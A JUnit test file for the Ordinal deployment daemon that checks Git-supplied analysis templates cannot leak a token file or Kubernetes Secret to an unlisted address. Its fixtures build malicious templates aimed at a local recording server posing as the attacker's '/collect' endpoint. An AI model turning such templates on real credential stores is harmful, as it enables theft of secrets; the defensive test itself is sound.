package dev.ordinal.daemon;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.sun.net.httpserver.HttpServer;
import dev.ordinal.analysis.condition.ConditionGrammar;
import dev.ordinal.cli.CliRun;
import dev.ordinal.manifest.LocalDirectory;
import dev.ordinal.manifest.ManifestLoader;
import dev.ordinal.sim.SimClock;
import dev.ordinal.sim.SimCluster;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * An AnalysisTemplate in Git cannot make Ordinal read a file or a Secret the operator did not name,
 * nor send anything to an address the operator did not list: each attempt is refused when the
 * commit loads, by {@code ordinal validate} and by the daemon; {@code ordinal analysis backtest}
 * refuses the file and the Secret and queries only the {@code --prometheus} it is given; a
 * recording server standing in for the attacker's receives nothing.
 */
class ExfiltrationTest {
  @TempDir Path tmp;
  private HttpServer recorder;
  private final AtomicInteger received = new AtomicInteger();

  @BeforeEach
  void startRecorder() throws Exception {
    recorder = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    recorder.createContext(
        "/",
        exchange -> {
          received.incrementAndGet();
          exchange.sendResponseHeaders(200, -1);
          exchange.close();
        });
    recorder.start();
  }

  @AfterEach
  void stopRecorder() {
    recorder.stop(0);
  }

  private String attacker() {
    return "http://127.0.0.1:" + recorder.getAddress().getPort() + "/collect";
  }

  /** A template whose one metric tries one way out. */
  private String template(String attempt) throws Exception {
    Path token = Files.writeString(tmp.resolve("token"), "service-account-token\n");
    String prometheus =
        switch (attempt) {
          case "file" -> "address: " + attacker() + "\n          bearerTokenFile: " + token;
          case "address" -> "address: " + attacker();
          default -> "bearerTokenSecret: {name: ordinal-git-credentials, key: token}";
        };
    return """
        apiVersion: ordinal.dev/v1alpha1
        kind: AnalysisTemplate
        metadata: {name: error-rate}
        spec:
          metrics:
            - name: errors
              successCondition: result[0] < 1
              provider:
                prometheus:
                  PROMETHEUS
                  query: up
        """
        .replace("PROMETHEUS", prometheus.replace("\n          ", "\n          "));
  }

  @ParameterizedTest
  @ValueSource(strings = {"file", "address", "secret"})
  void anExfiltrationAttemptIsRefusedEverywhereAndReachesNobody(String attempt) throws Exception {
    Path repo = Files.createDirectories(tmp.resolve("repo"));
    Files.writeString(repo.resolve("template.yaml"), template(attempt));

    // ordinal validate, with no config: denied by default
    CliRun validate = CliRun.of("validate", repo.toString());
    assertEquals(1, validate.exitCode(), validate.err());
    assertTrue(validate.err().contains("refused"), validate.err());

    // ordinal analysis backtest: the operator's own run refuses files and Secrets, and asks the
    // --prometheus it is given in place of any address (here a port that refuses at once)
    CliRun backtest =
        CliRun.of(
            "analysis",
            "backtest",
            "--template",
            repo.resolve("template.yaml").toString(),
            "--prometheus",
            "http://127.0.0.1:1",
            "--from",
            "-1h",
            "--step",
            "30m");
    if (attempt.equals("address")) {
      assertEquals(2, backtest.exitCode(), backtest.err());
      assertTrue(backtest.err().contains("Prometheus http://127.0.0.1:1"), backtest.err());
    } else {
      assertEquals(1, backtest.exitCode(), backtest.err());
      assertTrue(backtest.err().contains("refused"), backtest.err());
    }

    // the daemon's loader, with a config that names a default server and no Secrets
    DaemonConfig config =
        new DaemonConfig(
            tmp.resolve("data").toString(),
            "127.0.0.1:0",
            "1h",
            "ordinal",
            null,
            Map.of(
                "default", new DaemonConfig.PrometheusServer("http://prometheus:9090", null, null)),
            List.of("prometheus-token"),
            List.of(
                new DaemonConfig.App("shop", "file:///unused", "main", ".", "shop", false, null)));
    try (SimCluster cluster =
        new SimCluster(new SimClock(Instant.now(), 1), Duration.ofMillis(100))) {
      AppSync sync =
          BackupBoundaryTest.sync(
              config,
              new ManifestLoader(ConditionGrammar.INSTANCE, config.analysisTrust()),
              cluster);
      SyncResult.Invalid invalid =
          assertInstanceOf(SyncResult.Invalid.class, sync.sync(LocalDirectory.read(repo)));
      assertTrue(invalid.errors().toString().contains("refused"), invalid.errors().toString());
    }

    assertEquals(0, received.get(), "the attacker's server received nothing");
  }
}
